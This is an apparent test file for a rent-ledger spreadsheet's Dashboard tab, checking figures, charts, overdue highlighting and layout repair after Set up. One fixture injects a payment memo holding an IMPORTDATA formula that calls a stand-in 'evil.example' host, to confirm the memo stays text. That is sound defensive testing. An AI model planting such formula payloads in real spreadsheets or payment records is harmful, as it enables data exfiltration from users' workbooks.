/** The Dashboard tab of a world: what the run writes where, what Set up brings back without loss, and what a shifted tab is spared. */

import { conditionalTone, rulesOf } from '../../local/page/server/colours';
import { day } from '../../src/domain/calendar';
import { currency, zone } from '../../src/domain/values';
import { dashboardRequests } from '../../src/sheet/dashboard';
import { loadBook } from '../../src/sheet/load';
import { currentWorkbook, SETUP_FIELDS, setupRanges, setupRequests } from '../../src/sheet/setup';
import {
  askApi,
  bookOf,
  ELM,
  importRows,
  intentOf,
  leapTo,
  leaseOf,
  loadStripe,
  sheetsCalls,
  smallWorld,
  type World,
} from '../worlds';
import { appAt, sparklines } from './dashboard-world';

const SETUP = {
  zone: 'America/New_York',
  currency: 'USD',
  locale: 'en_US',
  booksOpenOn: '2026-11-01',
  owner: 'owner@example.com',
};

type Cells = readonly (readonly unknown[])[];

const cellsAt = (world: World, range: string, valueRenderOption = 'UNFORMATTED_VALUE'): Cells =>
  (
    world.workbook.api('spreadsheets.values.get', { range: `'Dashboard'!${range}`, valueRenderOption }) as {
      values?: Cells;
    }
  ).values ?? [];

interface DashboardSheet {
  readonly properties: { readonly sheetId: number };
  readonly charts?: readonly {
    readonly chartId: number;
    readonly spec: { readonly title: string; readonly altText: string };
    readonly position: {
      readonly overlayPosition: { readonly anchorCell: { readonly rowIndex?: number; readonly columnIndex?: number } };
    };
  }[];
  readonly conditionalFormats?: readonly unknown[];
}

function sheetOf(world: World): DashboardSheet {
  const fields = 'sheets(properties,charts,conditionalFormats)';
  const { sheets } = world.workbook.api('spreadsheets.get', { fields }) as {
    sheets: readonly (DashboardSheet & { properties: { title: string } })[];
  };
  return sheets.find((sheet) => sheet.properties.title === 'Dashboard') as DashboardSheet;
}

const change = (world: World, ...requests: readonly object[]) =>
  world.workbook.api('spreadsheets.batchUpdate', { spreadsheetId: world.workbook.id }, { requests });

const texts = (rows: readonly (readonly string[])[]) =>
  rows.map((row) => ({ values: row.map((stringValue) => ({ userEnteredValue: { stringValue } })) }));

function typeAt(world: World, rowIndex: number, columnIndex: number, rows: readonly (readonly string[])[]): void {
  const start = { sheetId: sheetOf(world).properties.sheetId, rowIndex, columnIndex };
  change(world, { updateCells: { rows: texts(rows), fields: 'userEnteredValue', start } });
}

/** Three leases in November and December: one pays, one pays late in November only, one never does; a stranger pays something. */
let base: World;
beforeAll(() => {
  base = smallWorld({ on: '2026-11-01', leases: ['L-1', 'L-2', 'L-3'].map((id) => leaseOf(id)) });
  loadStripe(base, [
    intentOf('pi_1', 'L-1', 100_000, '2026-11-02T12:00:00Z'),
    intentOf('pi_2', 'L-2', 100_000, '2026-11-20T12:00:00Z'),
  ]);
  leapTo(base, '2026-11-21T14:00:00Z');
  leapTo(base, '2026-12-01T14:00:00Z');
  loadStripe(base, [
    intentOf('pi_3', 'L-1', 100_000, '2026-12-03T12:00:00Z'),
    intentOf('pi_4', 'L-2', 40_000, '2026-12-04T12:00:00Z', { status: 'processing' }),
    intentOf('pi_5', '', 7_700, '2026-12-04T12:00:00Z', { description: '=IMPORTDATA("https://evil.example")' }),
  ]);
  leapTo(base, '2026-12-04T14:00:00Z');
});

describe('what the run writes', () => {
  it('is a row of figures for the currency, with links to where they are worked on', () => {
    const [figures] = cellsAt(base, 'A2:G2');
    const owed = bookOf(base).leases.reduce((all, lease) => all + Number(lease.balance), 0);
    expect(figures?.slice(0, 2)).toEqual(['USD', 1000]);
    expect(figures?.[2]).toBeCloseTo(1 / 3, 6);
    expect(figures?.[3]).toBe(owed);
    expect(figures?.[4]).toBe(Number(bookOf(base).leases.filter((lease) => lease.standing.startsWith('late')).length));
    expect(figures?.[5]).toBe(400);
    expect(cellsAt(base, 'A5:G5')).toEqual([
      ['Open', 'Receipts', '', 'Rent Roll', 'Rent Roll', 'Receipts', 'List below'],
    ]);
    const linked = JSON.stringify(
      base.workbook.api('spreadsheets.get', {
        ranges: "'Dashboard'!A5:G5",
        fields: 'sheets.data.rowData.values.userEnteredFormat.textFormat.link',
      }),
    );
    expect(linked.match(/#gid=\d+/g)).toHaveLength(5);
    expect(linked).toContain(`#gid=${sheetOf(base).properties.sheetId}&range=A54`);
  });

  it('says as of when it is, when the next run comes, and when the figures will be old', () => {
    expect(cellsAt(base, 'A6')[0]?.[0]).toMatch(
      /^As of 2026-12-04 \d\d:\d\d \(America\/New_York\); next run about \d\d:\d\d\./,
    );
    expect(cellsAt(base, 'A7:B7', 'FORMATTED_VALUE')).toEqual([['Out of date after', '2026-12-05 03:00']]);
  });

  it('is what the charts draw: parts of this month that come to all of it, and last month by the same day', () => {
    expect(cellsAt(base, 'H10:M12')).toEqual([
      ["This month's charges", 'Paid', 'Processing', 'Due', 'Late', 'Not paid by then'],
      ['This month', 1000, 400, '', 1600],
      // Two late fees came in November: all that fell due in it counts.
      ['By day 4 of last month', 1000, '', '', '', 2100],
    ]);
    const days = cellsAt(base, 'H22:K52');
    expect(days[3]).toEqual(['4', 1000, 3000, 1000]);
    expect(days[19]).toEqual(['20', 2000, 3000]);
    expect(days[30]).toEqual(['31', '', 3000]);
    expect(cellsAt(base, 'H19:J19')).toEqual([['Paid ahead, apart', 0, 'USD']]);
  });

  it('lists what needs a person with its age, its row and what to do, and a memo stays text', () => {
    const rows = cellsAt(base, 'A55:I70').filter((row) => row[0] !== undefined && row[0] !== '');
    const stranger = rows.find((row) => row[0] === 'Unmatched payment');
    expect(stranger?.slice(1, 4)).toEqual([0, '2026-12-04', 'Receipts']);
    expect(String(stranger?.[4])).toMatch(/^77\.00 USD from /);
    expect(String(stranger?.[8])).toMatch(/Reconcile/);
    expect(cellsAt(base, 'G2')).toEqual([[rows.length]]);
    expect(sparklines(base)).toEqual({ rows: 1, others: [] });
  });

  it('draws a property from what came within each month', () => {
    const [months = []] = cellsAt(base, 'D72:O72');
    expect(months.slice(-2)).toEqual(['2026-11', '2026-12']);
    const [row = []] = cellsAt(base, 'A73:O73');
    expect(row[0]).toBe('Elm House');
    // November: two of three rents and, in each late lease, a fee that is not paid.
    expect(row[13]).toBeCloseTo(2000 / 3100, 3);
    expect(row[14]).toBeCloseTo(1 / 3, 3);
    expect(row.slice(3, 13).every((cell) => cell === '')).toBe(true);
  });

  it('has good news when all is paid, and says how to begin when there is nothing', () => {
    const paid = smallWorld({ on: '2026-12-01', leases: [leaseOf('L-1')], properties: [ELM] });
    loadStripe(paid, [intentOf('pi_1', 'L-1', 100_000, '2026-12-01T12:00:00Z')]);
    leapTo(paid, '2026-12-01T15:00:00Z');
    askApi(paid, 'daily');
    expect(cellsAt(paid, 'A8')[0]?.[0]).toBe('✓ Good news: everything that has fallen due is paid.');
    expect(cellsAt(paid, 'H12')).toEqual([['Last month: before the books opened']]);
    const empty = smallWorld({ on: '2026-12-01', leases: [] });
    askApi(empty, 'daily');
    expect(cellsAt(empty, 'A8')[0]?.[0]).toMatch(/^There are no leases yet\. Open Rent Ledger > Setup/);
    expect(cellsAt(empty, 'A55:D56')).toEqual([['Missing or wrong data', '', '', 'Properties']]);
  });

  it('is as many requests for a thousand leases as for three, in one call', () => {
    const world = base.clone();
    const before = askedFor(world);
    importRows(
      world,
      'Leases',
      Array.from({ length: 1000 }, (_, at) => leaseOf(`M-${at}`)),
    );
    expect(askedFor(world)).toBe(before);
    const run = world.run('api', ['daily', []], { trigger: 'sidebar' });
    expect(sheetsCalls(run.calls)).toBeLessThan(12);
    expect(cellsAt(world, 'A36:G52').length).toBeLessThanOrEqual(17);
  }, 60_000);
});

/** What Set up would do now. */
function stillToDo(world: World): readonly unknown[] {
  const { workbook } = appAt(world).host;
  const shape = workbook.shape();
  const current = currentWorkbook(workbook.get(SETUP_FIELDS, setupRanges(shape)));
  return setupRequests(shape, current, {
    ...SETUP,
    booksOpenOn: day('2026-11-01'),
    zone: zone(SETUP.zone),
    currency: currency('USD'),
  });
}

function askedFor(world: World): number {
  const app = appAt(world);
  return dashboardRequests(loadBook(app.host), app.run, 1).length;
}

describe('a currency more', () => {
  it('has its own row, and the charts say which one they draw', () => {
    const world = smallWorld({
      on: '2026-12-01',
      properties: [
        ELM,
        { ...ELM, Property: 'Oak', 'Time zone': 'Europe/London', Currency: 'GBP', Jurisdiction: 'UK-ENG' },
      ],
      leases: [leaseOf('L-1'), leaseOf('L-2'), leaseOf('L-3', { Property: 'Oak', Rent: '800.00' })],
    });
    askApi(world, 'daily');
    expect(cellsAt(world, 'A2:D3')).toEqual([
      ['USD', 0, 0, 2000],
      ['GBP', 0, 0, 800],
    ]);
    expect(cellsAt(world, 'A8')).toEqual([['The charts are in USD.']]);
  });
});

describe('a tab that people changed', () => {
  it('keeps charts where people moved them, and brings back one that is gone', () => {
    const world = base.clone();
    const [first, second] = sheetOf(world).charts ?? [];
    const { sheetId } = sheetOf(world).properties;
    const anchorCell = { sheetId, rowIndex: 3, columnIndex: 14 };
    change(
      world,
      {
        updateEmbeddedObjectPosition: {
          objectId: first?.chartId,
          newPosition: { overlayPosition: { anchorCell } },
          fields: 'anchorCell',
        },
      },
      { deleteEmbeddedObject: { objectId: second?.chartId } },
    );
    askApi(world, 'setUp', [SETUP]);
    const charts = sheetOf(world).charts ?? [];
    expect(charts.map((chart) => chart.spec.title).sort()).toEqual([
      'Cash in this month',
      'Collection this month',
      'Unpaid by age',
    ]);
    const moved = charts.find((chart) => chart.chartId === first?.chartId);
    expect(moved?.position.overlayPosition.anchorCell).toMatchObject({ rowIndex: 3, columnIndex: 14 });
  });

  it('is left alone while a column of theirs stands between ours, says so, and is whole again after Set up', () => {
    const world = base.clone();
    const { sheetId } = sheetOf(world).properties;
    const range = { sheetId, dimension: 'COLUMNS', startIndex: 2, endIndex: 3 };
    change(world, { insertDimension: { range, inheritFromBefore: false } });
    typeAt(world, 0, 2, [['Our column'], ['our note']]);
    askApi(world, 'daily');
    expect(cellsAt(world, 'C1:C2')).toEqual([['Our column'], ['our note']]);
    expect(bookOf(world).problems?.join(' ')).toContain('The Dashboard is not laid out as this version fills it');
    askApi(world, 'setUp', [SETUP]);
    askApi(world, 'daily');
    expect(bookOf(world).problems?.join(' ')).not.toContain('Dashboard');
    expect(cellsAt(world, 'A1:H2')[0]).toEqual(cellsAt(base, 'A1:H2')[0]);
    expect(cellsAt(world, 'S1:S2')).toEqual([['Our column'], ['our note']]);
    expect(stillToDo(world)).toEqual([]);
  });

  it("turns red by itself once the day's run has been missed, with nobody there to write it", () => {
    const world = base.clone();
    const tone = () => {
      const { state } = world.workbook;
      const sheet = state.byTitle('Dashboard')!;
      const text = state.display(sheet, 6, 0);
      return conditionalTone(rulesOf(state, sheet), 6, 0, state.effective(sheet, 6, 0), text);
    };
    expect(tone()).toBeUndefined();
    world.state.nowMs = Date.parse('2026-12-05T07:59:00Z');
    expect(tone()).toBeUndefined();
    world.state.nowMs = Date.parse('2026-12-05T08:01:00Z');
    expect(tone()).toEqual({ text: '#a50e0e', fill: '#fce8e6' });
    expect(String(cellsAt(world, 'C7')[0]?.[0])).toMatch(/^Red: .* these figures are of 2026-12-04 \d\d:\d\d\./);
  });

  it('turns red by one rule of the tab, which Set up puts back once', () => {
    const world = base.clone();
    expect(JSON.stringify(sheetOf(world).conditionalFormats)).toContain('=NOW()>$B$7');
    change(world, { deleteConditionalFormatRule: { sheetId: sheetOf(world).properties.sheetId, index: 0 } });
    askApi(world, 'setUp', [SETUP]);
    expect(sheetOf(world).conditionalFormats).toHaveLength(1);
  });
});

describe('a Dashboard of the first version', () => {
  /** As the first version laid it out, with a column that a person has added at its right. */
  function older(): World {
    const world = base.clone();
    const { sheetId } = sheetOf(world).properties;
    const charts = (sheetOf(world).charts ?? []).map(({ chartId }) => ({
      deleteEmbeddedObject: { objectId: chartId },
    }));
    change(world, ...charts, { updateCells: { range: { sheetId }, fields: 'userEnteredValue,userEnteredFormat' } });
    typeAt(world, 0, 0, [
      ['Figure', 'Value', 'Currency', 'Note', 'My notes'],
      ['Collected this month', '', '', '', 'call Bo'],
    ]);
    const sources = [{ sheetId, startRowIndex: 7, endRowIndex: 12, startColumnIndex: 0, endColumnIndex: 1 }];
    const spec = (title: string) => ({
      title,
      basicChart: { chartType: 'BAR', domains: [{ domain: { sourceRange: { sources } } }] },
    });
    const position = { overlayPosition: { anchorCell: { sheetId, rowIndex: 0, columnIndex: 5 } } };
    change(world, { addChart: { chart: { spec: spec('Unpaid by age'), position } } });
    return world;
  }

  it('stands still until Set up, which lays it out anew and keeps what people had beside it', () => {
    const world = older();
    askApi(world, 'daily');
    expect(cellsAt(world, 'A2:E2')).toEqual([['Collected this month', '', '', '', 'call Bo']]);
    askApi(world, 'setUp', [SETUP]);
    askApi(world, 'daily');
    expect(cellsAt(world, 'A1:H1')).toEqual(cellsAt(base, 'A1:H1'));
    expect(cellsAt(world, 'S1:S2')).toEqual([['My notes'], ['call Bo']]);
    expect(cellsAt(world, 'A2:F2')).toEqual(cellsAt(base, 'A2:F2'));
    const charts = sheetOf(world).charts ?? [];
    expect(charts.map((chart) => chart.spec.title).sort()).toEqual([
      'Cash in this month',
      'Collection this month',
      'Unpaid by age',
    ]);
    const aging = charts.find((chart) => chart.spec.title === 'Unpaid by age');
    expect(aging?.position.overlayPosition.anchorCell).toMatchObject({ rowIndex: 18, columnIndex: 3 });
    expect(stillToDo(world)).toEqual([]);
  });
});
